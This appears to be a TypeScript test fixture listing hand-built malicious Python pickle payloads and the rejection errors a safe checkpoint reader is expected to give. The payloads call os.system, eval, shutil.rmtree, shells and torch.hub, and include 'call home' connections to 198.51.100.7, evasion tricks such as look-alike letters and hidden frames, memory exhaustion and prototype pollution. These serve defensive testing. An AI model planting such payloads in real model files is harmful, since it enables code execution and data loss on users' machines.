/**
 * Pickles made to do harm, assembled by hand: the bytes of `data.pkl`. None was ever given to Python.
 *
 * Opcodes: Python's Lib/pickletools.py. Those that import or call are GLOBAL (c), STACK_GLOBAL (\x93), INST (i),
 * OBJ (o), NEWOBJ (\x81), NEWOBJ_EX (\x92), REDUCE (R), BUILD (b) and EXT1, 2 and 4 (\x82 to \x84).
 */
import type { ErrorCode } from "../../src/base/errors.js";
import {
  dictionary,
  integer,
  le,
  orderedDict,
  pickle,
  storage,
  tensor,
  text,
  tuple,
} from "../checkpoints/assemble.js";
import { canaryFile, type HostileRow } from "./row.js";

const touch = `touch ${canaryFile}`;
const python = `open(${JSON.stringify(canaryFile)}, "w")`;

type Table = readonly HostileRow[];

/** A row by the code of its answer and a form of its bytes. */
const rows =
  (code: ErrorCode, form: (bytes: string) => string) =>
  (name: string, tries: string, bytes: string, message: string): HostileRow => ({
    name,
    tries,
    bytes: form(bytes),
    code,
    message,
  });

const asIs = (bytes: string) => bytes;
/** These ask for what is not done; given are the opcodes between PROTO and STOP, or all of the bytes. */
const asks = rows("checkpoint-rejected", pickle);
const rawAsks = rows("checkpoint-rejected", asIs);
/** These contradict themselves. */
const lies = rows("checkpoint-damaged", pickle);
const rawLies = rows("checkpoint-damaged", asIs);

/** A call of `module.member` by GLOBAL and REDUCE. */
const call = (module: string, member: string, ...given: string[]): string =>
  `c${module}\n${member}\n${tuple(...given)}R`;

/** Names by which pickles in the wild have run code, each with the arguments that do it. */
const imports: Table = [
  ["os", "system", [text(touch)], "run a shell command"],
  ["nt", "system", [text(touch)], "run a shell command by the name that Windows has for it"],
  ["os", "popen", [text(touch)], "run a shell command and read its answer"],
  ["os", "execvp", [text("touch"), tuple(text("touch"), text(canaryFile))], "become another program"],
  ["subprocess", "Popen", [`](${text("touch")}${text(canaryFile)}e`], "start a program without a shell"],
  ["builtins", "eval", [text(python)], "evaluate an expression"],
  ["builtins", "exec", [text(python)], "run statements"],
  ["__builtin__", "apply", [text(python)], "call anything, by the name of Python 2's builtins"],
  [
    "builtins",
    "compile",
    [text(python), text("x"), text("exec")],
    "make code, to be put into a function later",
  ],
  ["builtins", "getattr", [text(""), text("__class__")], "walk from an innocent object to any other"],
  ["builtins", "__import__", [text("os")], "load a module, whose first lines run at once"],
  ["builtins", "open", [text(canaryFile), text("w")], "empty a file"],
  ["importlib", "import_module", [text("antigravity")], "load a module by another name of import"],
  ["runpy", "_run_code", [text(python), "}"], "run code as `python -m` does"],
  ["code", "InteractiveInterpreter", [], "get an interpreter to feed"],
  ["functools", "partial", ["cos\nsystem\n", text(touch)], "bind a command now and have it called later"],
  ["operator", "methodcaller", [text("system"), text(touch)], "call a method of whatever comes next"],
  ["types", "FunctionType", ["N", "}"], "make a function out of code"],
  ["marshal", "loads", ["C\x02c\0"], "read Python's byte code, which checks nothing"],
  ["_pickle", "loads", [`B${le(12, 4)}cos\nsystem\n.`], "hide the true pickle in a string of bytes"],
  ["dill._dill", "_create_function", ["N"], "use another library's way to make functions"],
  ["torch", "load", [text("/tmp/second.pt")], "open a second file without the checks of the first"],
  ["torch.storage", "_load_from_bytes", ["C\x01."], "unpickle bytes by a name of torch's own"],
  ["torch.hub", "load", [text("stranger/repository"), text("model")], "fetch code from the net and run it"],
  ["torch.utils.cpp_extension", "load_inline", [text("x")], "compile C++ and load it"],
  ["numpy.core.multiarray", "_reconstruct", [")"], "build an array over objects of its choice"],
  ["_codecs", "encode", [text("x"), text("rot13")], "make text in the machine's own memory from other text"],
  ["ctypes", "CDLL", [text("libc.so.6")], "load a native library"],
  ["socket", "create_connection", [tuple(text("198.51.100.7"), "M\x39\x05")], "call home"],
  ["urllib.request", "urlopen", [text("http://198.51.100.7/")], "send a server that the file was opened"],
  ["shutil", "rmtree", [text("/")], "remove all files"],
  ["webbrowser", "open", [text("file:///tmp/x.html")], "open a page in the user's browser"],
  ["pty", "spawn", [text("/bin/sh")], "start a shell on the terminal"],
  ["globalThis", "hostileCanary", [], "call a global function of this very process"],
  ["child_process", "execSync", [text(touch)], "run a command in Node, should names be looked up there"],
  [
    "constructor",
    "constructor",
    [text("hostileCanary()")],
    "reach JavaScript's Function through an inherited name",
  ],
  ["__proto__", "toString", [], "find something in a table that is a plain object"],
].map(([module, member, given, tries]) => {
  const name = `${module}.${member}`;
  const bytes = call(module as string, member as string, ...(given as string[]));
  return asks(`GLOBAL ${name}`, tries as string, bytes, `names "${name}", which no tensor needs`);
});

/** Other ways to a name. */
const names: Table = [
  rawAsks(
    "STACK_GLOBAL posix.system",
    "import by the opcode of protocol 4, which takes the name from the stack",
    `\x80\x04\x95${le(40, 8)}\x8c\x05posix\x8c\x06system\x93\x8c\x13${touch}\x85R.`,
    'byte 26: names "posix.system"',
  ),
  asks(
    "STACK_GLOBAL from the memo",
    "keep module and member apart until the last moment, so that no checker sees the name as one",
    `${text("spawnl")}q\x01${text("os")}q\x02]h\x02h\x01\x93`,
    'names "os.spawnl"',
  ),
  lies(
    "STACK_GLOBAL with a list for a module",
    "have the reader look for a member of something that is no module",
    `]${text("system")}\x93`,
    "has a name that is no text",
  ),
  asks(
    "STACK_GLOBAL of a path inside an allowed name",
    "start at a name that is allowed, and walk on to its globals",
    `${text("torch._utils")}${text("_rebuild_tensor_v2.__globals__")}\x93`,
    'names "torch._utils._rebuild_tensor_v2.__globals__"',
  ),
  asks(
    "a look-alike letter",
    "pass a name off as an allowed one: the o of OrderedDict's module is Greek",
    `${text("cοllections")}${text("OrderedDict")}\x93`,
    'names "cοllections.OrderedDict"',
  ),
  asks(
    "a name with a NUL behind it",
    "have a reader in C see an allowed name, and Python another",
    "ctorch._utils\n_rebuild_tensor_v2\0x\n",
    'names "torch._utils._rebuild_tensor_v2\\u0000x"',
  ),
  asks(
    "lines that end as on Windows",
    "hide the end of a name",
    "ccollections\r\nOrderedDict\r\n",
    'names "collections\\r.OrderedDict\\r"',
  ),
  asks(
    "a name with commands for the terminal",
    "change the terminal's title when the error is shown",
    "c\x1b]0;owned\x07\nx\n",
    'names "\\u001b]0;owned\\u0007.x"',
  ),
  asks(
    "a name of 100,000 letters",
    "fill the screen with an error",
    `c${"y".repeat(1e5)}\nx\n`,
    'names "yyyyyy',
  ),
  lies(
    "a name without an end",
    "have the reader look for a line's end beyond the file",
    "cos",
    "a name without an end",
  ),
  lies(
    "a name that is not UTF-8",
    "have two readers decode it in two ways",
    "c\xff\xfe\nx\n",
    "text that is not UTF-8",
  ),
  rawAsks(
    "a payload before a broken end",
    "have the payload run before the reader finds that the rest is broken",
    `\x80\x02${call("os", "spawnv", integer(0), text("touch"))}\xff\xff`,
    'names "os.spawnv"',
  ),
  rawAsks(
    "a payload after the end",
    "show a checker an empty dictionary, and a loader that reads on the second pickle",
    `${pickle("}")}${pickle(call("os", "system", text(touch)))}`,
    "is followed by something else",
  ),
  rawAsks(
    "a payload outside its frame",
    "hide the payload from a reader that believes the frame's length",
    `\x80\x04\x95${le(1, 8)}}${call("posix", "popen", text(touch))}.`,
    'names "posix.popen"',
  ),
];

/** Opcodes that import or call, on names that are allowed. */
const opcodes: Table = [
  asks(
    "INST",
    "import and call in one opcode of protocol 0",
    `(${text(touch)}ios\nsystem\n`,
    "the opcode INST,",
  ),
  asks(
    "OBJ",
    "make an object of a class that lies on the stack",
    "(ctorch\nFloatStorage\no",
    "the opcode OBJ,",
  ),
  asks(
    "NEWOBJ_EX",
    "make an object with named arguments",
    "ccollections\nOrderedDict\n)}\x92",
    "opcode NEWOBJ_EX,",
  ),
  asks("EXT1", "import by a number that another library has registered", "\x82\x01", "the opcode EXT1,"),
  asks("EXT2", "the same with a number of two bytes", "\x83\x01\x00", "the opcode EXT2,"),
  asks("EXT4", "the same with a number of four bytes", "\x84\x01\x00\x00\x00", "the opcode EXT4,"),
  asks("PERSID", "name something outside by a line of text", "P../../etc/passwd\n", "the opcode PERSID,"),
  asks(
    "NEWOBJ of OrderedDict",
    "make an object past its constructor",
    "ccollections\nOrderedDict\n)\x81",
    'makes a new object of "collections.OrderedDict"',
  ),
  asks(
    "NEWOBJ of text",
    "have the reader look a class up by its name",
    `${text("os.system")})\x81`,
    "makes a new object of text",
  ),
  asks(
    "NEWOBJ with arguments",
    "call the constructor of a class that is allowed without them",
    `c__torch__\nM\n${tuple(text(touch))}\x81`,
    "makes a module from something",
  ),
  asks(
    "REDUCE of a type",
    "call a class that is allowed as a name",
    "ctorch\nFloatStorage\n)R",
    'calls "torch.FloatStorage"',
  ),
  asks(
    "REDUCE of text",
    "have the reader look a function up by its name",
    `${text("hostileCanary")})R`,
    "calls text",
  ),
  asks(
    "REDUCE of a tensor",
    "call what was built",
    `${tensor({ size: 1, shape: [1], strides: [1] })})R`,
    "calls a tensor",
  ),
  asks(
    "REDUCE of a TorchScript class",
    "bring any name in under the one prefix that is allowed",
    `c__torch__.os\nsystem\n${tuple(text(touch))}R`,
    'calls "__torch__.os.system"',
  ),
  lies(
    "REDUCE with a dictionary",
    "give arguments by name",
    "ctorch\nSize\n}R",
    'calls "torch.Size" with a dictionary',
  ),
  asks(
    "OrderedDict from pairs",
    "have the constructor walk over something",
    "ccollections\nOrderedDict\n(]tR",
    "builds an OrderedDict from something",
  ),
  asks(
    "BUILD on a function",
    "exchange the code of a function that is called later",
    `ctorch._utils\n_rebuild_tensor_v2\n${dictionary({ __code__: "N" })}b`,
    'sets attributes of "torch._utils._rebuild_tensor_v2"',
  ),
  asks(
    "BUILD on a tensor",
    "call the tensor's __setstate__",
    `${tensor({ size: 1, shape: [1], strides: [1] })}${tuple("N", "N")}b`,
    "sets attributes of a tensor from a tuple",
  ),
  asks(
    "BUILD with slots",
    "set attributes past the dictionary",
    `c__torch__\nM\n)\x81${tuple("N", "}")}b`,
    "sets attributes of a module from a tuple",
  ),
  asks("DUP", "use a value twice without the memo", "}2", "the opcode DUP,"),
  asks("POP", "have a payload run and leave nothing behind", "N0", "the opcode POP,"),
  asks("POP_MARK", "drop what a checker has just looked at", "(N1", "the opcode POP_MARK,"),
  asks("GET", "read the memo by decimal digits", "Nq\x00g0\n", "the opcode GET,"),
  asks("PUT", "write the memo at a place of a million digits", `Np${"9".repeat(1e6)}\n`, "the opcode PUT,"),
  asks(
    "LONG",
    "have a million digits converted, which takes time squared",
    `L${"9".repeat(1e6)}L\n`,
    "the opcode LONG,",
  ),
  asks(
    "LONG4",
    "make a number of two thousand million bytes",
    `\x8b${le(2 ** 31 - 1, 4)}`,
    "the opcode LONG4,",
  ),
  asks("STRING", "have text evaluated as a Python literal", "S'\\x41'\n", "the opcode STRING,"),
  asks(
    "BYTEARRAY8",
    "ask for 2^62 bytes that can be written",
    `\x96${le(2n ** 62n, 8)}`,
    "the opcode BYTEARRAY8,",
  ),
  asks("NEXT_BUFFER", "take a buffer that nobody passed", "\x97", "the opcode NEXT_BUFFER,"),
  asks("EMPTY_SET", "fill a set with things whose hash is code", "\x8f", "the opcode EMPTY_SET,"),
  asks(
    "an opcode that there is not",
    "find what a reader does where its table ends",
    "\xfe",
    "the opcode 254,",
  ),
  rawAsks("protocol 0", "choose an older reader", "\x80\x00N.", "is of protocol 0"),
  rawAsks("protocol 255", "choose a reader that there is not", "\x80\xffN.", "is of protocol 255"),
];

/** Lengths and places that lie, and a stack and a memo that are used against their rules. */
const machine: Table = [
  lies(
    "BINUNICODE8 of 2^63",
    "make the length negative in a signed number",
    `\x8d${le(2n ** 63n, 8)}a`,
    "asks for 9223372036854776000 bytes",
  ),
  lies(
    "BINBYTES8 of 2^40",
    "have a terabyte set aside before it is seen that it is not there",
    `\x8e${le(2n ** 40n, 8)}a`,
    "asks for 1099511627776 bytes",
  ),
  lies(
    "BINUNICODE of 2^32 - 1",
    "have four gigabytes set aside",
    `X${le(2 ** 32 - 1, 4)}a`,
    "asks for 4294967295 bytes",
  ),
  lies(
    "LONG1 beyond the end",
    "read what lies behind the file in memory",
    "\x8a\xff\x01",
    "asks for 255 bytes, 2 are left",
  ),
  lies(
    "a number cut in two",
    "read a number's second half from elsewhere",
    "G\x3f",
    "asks for 8 bytes, 2 are left",
  ),
  lies(
    "FRAME of 2^62",
    "have a frame set aside that no memory holds",
    `\x95${le(2n ** 62n, 8)}N`,
    "frame of 4611686018427388000 bytes",
  ),
  rawLies("no STOP", "have the reader run on", "\x80\x02}", "byte 3: ends without a STOP"),
  lies("STOP with nothing", "take a result from an empty stack", "", "takes a value where there is none"),
  lies(
    "a value from under a mark",
    "reach under a mark for what another part has left there",
    "N(q\x00",
    "takes a value from under a mark",
  ),
  lies(
    "TUPLE without a mark",
    "take the whole stack, and what is below",
    "Nt",
    "goes back to a mark where there is none",
  ),
  lies("values left over", "hide values behind the result", "NN", "ends with values left over"),
  lies(
    "BINGET of nothing",
    "read memory that was not written",
    "h\x07",
    "reads memo 7, which was not written",
  ),
  lies(
    "LONG_BINGET of 2^32 - 1",
    "read far behind the memo",
    `j${le(2 ** 32 - 1, 4)}`,
    "reads memo 4294967295",
  ),
  asks(
    "a memo that changes its meaning",
    "show a function in memo 0, then put a name there before it is called",
    `ctorch\nSize\nq\x00cos\ntimes\nq\x00`,
    'names "os.times"',
  ),
  lies("APPEND to a tuple", "change a shape after it was checked", ")Na", "appends to a tuple"),
  lies("APPEND to a dictionary", "mix up two kinds of containers", "}Na", "appends to a dictionary"),
  lies(
    "SETITEM on a number",
    "write into something that is no container",
    "K\x01NNs",
    "sets items of a number",
  ),
  lies("SETITEMS of one", "leave a key without a value", "}(Nu", "sets a key without a value"),
  asks(
    "a dictionary as a key",
    "have code run by which objects are compared",
    "}}Ns",
    "has a dictionary as a key",
  ),
  asks(
    "1,000,001 values",
    "fill the memory from a megabyte",
    "N".repeat(1_000_001),
    "has more than 1000000 opcodes",
  ),
  asks(
    "tuples 101 deep",
    "exhaust the stack of whatever walks over the value",
    `)${"\x85".repeat(100)}`,
    "nests values more than 100 deep",
  ),
  asks(
    "100,000 marks",
    "exhaust the stack of a reader that calls itself",
    `}${"(".repeat(1e5)}`,
    "nests marks more than 100 deep",
  ),
];

const floats = (key: string, size: number) => storage("FloatStorage", key, size);
const id = (...parts: string[]) => `${tuple(...parts)}Q`;
const float = "ctorch\nFloatStorage\n";
const rebuild = (...given: string[]) => call("torch._utils", "_rebuild_tensor_v2", ...given);
/** A state dict with one tensor, by default the twelve numbers of storage 0. */
const dict = (fields: Partial<Parameters<typeof tensor>[0]>): string =>
  dictionary({ w: tensor({ size: 12, shape: [3, 4], strides: [4, 1], ...fields }) });

/** Storages and tensors that are not what they say. */
const tensors: Table = [
  asks(
    "a persistent id of text",
    "name a file instead of a storage",
    `${text("/etc/passwd")}Q`,
    "is no storage: text",
  ),
  asks(
    "a persistent id of another kind",
    "have a module loaded by the older form",
    id(text("module"), "N", text("x.py"), text("import os")),
    "is no storage: text, nothing, text, text",
  ),
  asks(
    "a storage of six parts",
    "bring a view along, as the oldest form had it",
    id(text("storage"), float, text("0"), text("cpu"), "K\x0c", "N"),
    "text, a number, nothing",
  ),
  asks(
    "a storage without a type",
    "have the reader look the type up by name",
    id(text("storage"), text("FloatStorage"), text("0"), text("cpu"), "K\x0c"),
    "is no storage: text, text, text",
  ),
  asks(
    "a storage of negative size",
    "make an upper bound that is below zero",
    floats("0", -1),
    'is no storage: text, "torch.FloatStorage", text, text, a number',
  ),
  asks(
    "a storage keyed by a number",
    "have a key that is no name made into a path",
    id(text("storage"), float, "K\x00", text("cpu"), "K\x0c"),
    'is no storage: text, "torch.FloatStorage", a number',
  ),
  lies(
    "a storage outside the archive",
    "read another file of the disk",
    dict({ key: "../../../etc/passwd" }),
    '"../../../etc/passwd" of "w" is not in the archive',
  ),
  lies(
    "a storage named as an inherited property",
    "find a storage that nobody put there",
    dict({ key: "__proto__" }),
    '"__proto__" of "w" is not in the archive',
  ),
  lies(
    "a storage larger than its bytes",
    "read what follows in the file",
    dict({ size: 1000, shape: [1000], strides: [1] }),
    "should hold 1000 of float32, and is 48 bytes long",
  ),
  lies(
    "a type that lies",
    "read each number twice as wide",
    dict({ type: "DoubleStorage" }),
    "should hold 12 of float64, and is 48 bytes long",
  ),
  lies(
    "one storage, two types",
    "show the same bytes as other numbers to another reader",
    dictionary({
      a: tensor({ size: 12, shape: [12], strides: [1] }),
      b: tensor({ type: "HalfStorage", size: 24, shape: [24], strides: [1] }),
    }),
    'of "b" is float32 for another tensor, here float16',
  ),
  asks(
    "a type that is not read",
    "reach a type whose width is not known",
    "ctorch\nComplexDoubleStorage\n",
    'names "torch.ComplexDoubleStorage"',
  ),
  lies(
    "an offset beyond the storage",
    "read what lies behind the storage",
    dict({ offset: 1 }),
    "reaches element 12 of a storage of 12",
  ),
  lies(
    "a negative offset",
    "read what lies before the storage",
    dict({ offset: -1 }),
    "at an offset that is no count",
  ),
  lies(
    "strides beyond the storage",
    "step out of the storage",
    dict({ strides: [4, 2] }),
    "reaches element 14 of a storage of 12",
  ),
  lies(
    "a negative stride",
    "walk backwards out of the storage",
    dict({ strides: [-4, 1] }),
    "with strides that are no list of counts",
  ),
  lies(
    "a negative size",
    "turn a bound around",
    dict({ shape: [-3, 4] }),
    "of a shape that is no list of counts",
  ),
  lies(
    "a product beyond 2^53",
    "have the product of the sizes come out small",
    dict({ shape: [2 ** 30, 2 ** 30], strides: [0, 0] }),
    "builds a tensor of 1152921504606847000 elements",
  ),
  lies(
    "a last element beyond 2^53",
    "have the last element's place come out small",
    dict({ shape: [2, 2], strides: [2 ** 53 - 1, 2 ** 53 - 1] }),
    "reaches element 18014398509481982",
  ),
  lies(
    "more strides than axes",
    "read a stride that belongs to no axis",
    dict({ strides: [4, 1, 1] }),
    "of 2 axes with 3 strides",
  ),
  asks(
    "elements that overlap",
    "have a small file read a million times",
    dict({ strides: [3, 1] }),
    "whose elements overlap",
  ),
  asks(
    "one number as four terabytes",
    "have memory set aside for a number that repeats",
    dict({ size: 12, shape: [2 ** 40], strides: [0] }),
    '"w" makes 1099511627776 elements out of 12',
  ),
  asks(
    "seven arguments",
    "pass something that is not known",
    rebuild(floats("0", 12), "K\x00", tuple("K\x03"), tuple("K\x01"), "\x89", orderedDict, text("x")),
    "builds a tensor from 7 values",
  ),
  lies(
    "a tensor on a list",
    "pass something of the wrong kind where a storage is trusted",
    rebuild("]", "K\x00", tuple("K\x03"), tuple("K\x01"), "\x89", orderedDict),
    "builds a tensor on a list",
  ),
  lies(
    "a parameter of text",
    "smuggle something in as a parameter",
    call("torch._utils", "_rebuild_parameter", text("x"), "\x88", orderedDict),
    "a parameter of something that is no tensor",
  ),
  lies(
    "a torch.Size of text",
    "have letters taken for sizes",
    call("torch", "Size", text("12")),
    "a torch.Size that is no list of sizes",
  ),
];

/** What is built is sound, and is not a model. */
const roots: Table = [
  asks(
    "__proto__ as a name",
    "change what every object of this process inherits",
    dictionary({ ["__proto__"]: dictionary({ polluted: "\x88" }) }),
    'holds a dictionary under "__proto__"',
  ),
  asks(
    "constructor as a name",
    "change how objects are made",
    dictionary({ constructor: dictionary({ prototype: "}" }) }),
    'holds a dictionary under "constructor"',
  ),
  asks(
    "a list that holds itself",
    "have whoever walks over it never come back",
    "]q\x00h\x00a",
    "holds a list, not a state dict",
  ),
  lies(
    "a name twice",
    "show one tensor to a checker and load another",
    dictionary({
      model_state_dict: dictionary({
        w: tensor({ size: 12, shape: [12], strides: [1] }),
        "module.w": tensor({ size: 12, shape: [1], strides: [1] }),
      }),
    }),
    'holds the tensor "w" twice',
  ),
  asks(
    "a module in itself",
    "have the walk over modules never end",
    `c__torch__\nM\n)\x81q\x01}${text("self")}h\x01sb`,
    'holds the module "self." twice',
  ),
  lies(
    "two ways to one name",
    "have a module's tensor replaced by an attribute with a dot",
    `c__torch__\nM\n)\x81${dictionary({ "a.w": tensor({ size: 12, shape: [12], strides: [1] }), a: `c__torch__\nM\n)\x81${dictionary({ w: tensor({ size: 12, shape: [1], strides: [1] }) })}b` })}b`,
    'holds the tensor "a.w" twice',
  ),
  asks(
    "an attribute that is a number",
    "have a number's text collide with a name",
    `c__torch__\nM\n)\x81}K\x07Nsb`,
    "has a number, 7, as the name of nothing",
  ),
  asks(
    "a name of 100,001 letters",
    "have names grow with every module around them",
    `c__torch__\nM\n)\x81${dictionary({ ["x".repeat(100_001)]: "N" })}b`,
    "has a name of 100001 characters",
  ),
];

export const hostilePickles: Table = [...imports, ...names, ...opcodes, ...machine, ...tensors, ...roots];
